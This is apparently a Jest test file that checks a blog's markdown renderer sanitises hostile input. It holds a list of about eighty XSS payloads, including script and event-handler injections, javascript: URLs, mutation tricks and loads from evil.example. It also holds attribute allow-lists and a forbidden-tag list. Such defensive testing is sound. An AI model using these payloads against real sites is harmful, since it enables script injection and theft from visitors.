/** @jest-environment jest-fixed-jsdom */
import { render } from '../../../src/server/content/render.ts';
import { constructPayloads } from '../../helpers/e2e/xss/constructs.ts';

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)//',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/a.png" onload="alert(1)">',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src=//evil.example/a.png>',
  '<img srcset="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1)><a>x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<style>@import "https://evil.example/x.css"; * { color: red }</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><script>alert(1)</script></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example/"><input name=password><button formaction=javascript:alert(1)>Go</button></form>',
  '<input type=checkbox onfocus=alert(1) autofocus>',
  '<input type=image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<a href="https://a.example" target=_top ping=https://evil.example download>x</a>',
  '<a id=login name=token class=btn>x</a><div id=root class=MuiDialog-root>x</div>',
  '<h1 id="root" onclick=alert(1)>x</h1>',
  '<p title="\'onmouseover=alert(1)">x</p>',
  '<code class="language-js" onclick=alert(1)>x</code><code class="Mui-focusVisible">x</code>',
  '<p/onclick=alert(1)>x</p>',
  '<p\nonclick\n=\nalert(1)>x</p>',
  '<a href="https://a.example" a="></a><img src=x onerror=alert(1)>">x</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<div is="x-evil" slot="x" part="x" contenteditable data-x=1>x</div><x-evil onclick=alert(1)>x</x-evil>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](jav&#x0A;ascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](data:image/png;base64,AAAA)',
  '[x](//evil.example)',
  '[x](vbscript:x) <javascript:alert(1)> <vbscript:x>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](https://a.example "\\"onmouseover=alert(1) x=\\"")',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,AAAA)',
  '![" onerror="alert(1)](https://a.example/a.png)',
  '![x](https://a.example/a.png"onerror="alert(1))',
  '```"onclick="alert(1)\nx\n```',
  '```js onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```',
  '`</code><img src=x onerror=alert(1)>`',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '# <img src=x onerror=alert(1)>',
  '# x" onclick="alert(1)',
  '- [x] <script>alert(1)</script>',
  '<b>'.repeat(300) + '<img src=x onerror=alert(1)>',
];

const attributes: Record<string, RegExp> = {
  src: /^https?:\/\//,
  rel: /^nofollow ugc noopener$/,
  id: /^section-(?:[\p{L}\p{M}\p{N}_-]*|fn(?:ref)?:\d+(?::\d+)?)$/u,
  class: /^(?:language-[\w+#.-]+|code|anchor|footnotes|hl-[a-z]+|alert-[a-z]+)$/,
  'data-language': /^[\w+#. -]+$/,
  type: /^checkbox$/,
  tabindex: /^(?:0|-1)$/,
  role: /^(?:group|note)$/,
  'aria-hidden': /^true$/,
  'aria-label': /^(Table|Code|[\w+#. -]+ code|Done|To do|Footnotes|Back to the text)$/,
  loading: /^lazy$/,
  decoding: /^async$/,
  referrerpolicy: /^no-referrer$/,
  dir: /^(?:rtl|ltr|auto)$/,
  lang: /^[a-z][a-z\d-]+$/i,
  align: /^(left|center|right)$/,
};
const harmless = ['alt', 'title', 'disabled', 'checked', 'open', 'start', 'width', 'height', 'datetime'];

const forbidden =
  'script, style, svg, math, iframe, object, embed, base, link, meta, form, button, select, option, textarea, template,' +
  ' video, audio, source, noscript, input:not([type=checkbox]:disabled)';

function parse(html: string): Element[] {
  const page = new DOMParser().parseFromString(`<main>${html}</main>`, 'text/html');
  const main = page.querySelector('main');
  if (!main || page.body.children.length !== 1) throw new Error(`The article leaves its place: ${html}`);
  return [...main.querySelectorAll('*')];
}

/** Resolves a URL like a browser: only URLs with a scheme lead to other sites. */
function leadsAstray(href: string): boolean {
  const { protocol, host } = new URL(href, 'https://blog.example/allArticles/a');
  return (
    !['https:', 'http:', 'mailto:', 'tel:'].includes(protocol) ||
    (/^[/\\]/.test(href) && host !== 'blog.example')
  );
}

const unknown = ({ name, value }: Attr) =>
  name === 'href' ? leadsAstray(value) : !harmless.includes(name) && !attributes[name]?.test(value);

describe('an article by a hostile author', () => {
  it.each([...vectors, ...constructPayloads])('is harmless: %s', (markdown) => {
    const { sanitizedHtml, lead } = render(markdown);

    for (const html of [sanitizedHtml, lead]) {
      const elements = parse(html);
      expect(elements.filter((element) => element.matches(forbidden))).toEqual([]);
      expect(elements.flatMap((element) => [...element.attributes].filter(unknown))).toEqual([]);
    }
  });

  it.each([
    ['the text around a removed script', 'a <script>alert(1)</script> b', '<p>a  b</p>\n'],
    ['the text of a forbidden link', '<a href="javascript:x">a</a>', /^<p>a<\/p>\n$/],
    ['the text in a forbidden tag', '<button>a</button>', /^<p>a<\/p>\n$/],
  ])('keeps %s', (_case, markdown, expected) => {
    expect(render(markdown).sanitizedHtml).toMatch(expected);
  });
});
